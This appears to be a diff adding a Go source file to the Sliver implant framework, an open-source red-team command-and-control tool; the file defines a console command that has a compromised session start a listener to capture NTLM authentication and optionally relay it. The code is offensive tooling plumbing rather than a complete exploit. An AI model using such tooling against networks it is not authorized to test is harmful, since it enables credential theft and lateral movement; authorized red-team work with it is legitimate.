@@ -0,0 +1,94 @@
+package ntlm
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"regexp"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/command/rportfwd"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/client/core"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+)
+
+var portNumberOnlyRegexp = regexp.MustCompile("^[0-9]+$")
+
+// StartNTLMListenerCmd - Start an ntlm listener on the active session
+func StartNTLMListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session := con.ActiveTarget.GetSessionInteractive()
+	if session == nil {
+		return
+	}
+
+	bindAddress := ctx.Flags.String("bind")
+	if portNumberOnlyRegexp.MatchString(bindAddress) {
+		bindAddress = fmt.Sprintf(":%s", bindAddress)
+	}
+	relayAddress := ctx.Flags.String("relay")
+	if portNumberOnlyRegexp.MatchString(relayAddress) {
+		relayAddress = fmt.Sprintf("127.0.0.1:%s", relayAddress)
+	}
+	local := ctx.Flags.Bool("local")
+	if local && relayAddress == "" {
+		con.PrintErrorf("--local needs a relay address\n")
+		return
+	}
+	if _, _, err := net.SplitHostPort(relayAddress); relayAddress != "" && err != nil {
+		con.PrintErrorf("Invalid relay address: %s\n", err)
+		return
+	}
+	allow, err := rportfwd.ParseAllowList(ctx.Flags.String("allow"))
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	ntlmListener, err := con.Rpc.StartNTLMListener(context.Background(), &sliverpb.NTLMStartListenerReq{
+		Request:      con.ActiveTarget.Request(ctx),
+		BindAddress:  bindAddress,
+		RelayAddress: relayAddress,
+		Local:        local,
+		Allow:        allow,
+	})
+	if err != nil {
+		con.PrintWarnf("%s\n", err)
+		return
+	}
+	if ntlmListener.Response != nil && ntlmListener.Response.Err != "" {
+		con.PrintErrorf("%s", ntlmListener.Response.Err)
+		return
+	}
+	if local {
+		core.LocalRportfwds.Add(session.ID, ntlmListener.RportfwdID, relayAddress)
+	}
+	if ntlmListener.RelayAddress == "" {
+		con.PrintInfof("Capturing ntlm authentication on %s\n", ntlmListener.BindAddress)
+	} else if ntlmListener.Local {
+		con.PrintInfof("Capturing ntlm authentication relayed %s (local) <- %s\n", ntlmListener.RelayAddress, ntlmListener.BindAddress)
+	} else {
+		con.PrintInfof("Capturing ntlm authentication relayed %s <- %s\n", ntlmListener.RelayAddress, ntlmListener.BindAddress)
+	}
+	if 0 < len(ntlmListener.Allow) {
+		con.PrintInfof("Only accepting connections from %s\n", strings.Join(ntlmListener.Allow, ", "))
+	}
+}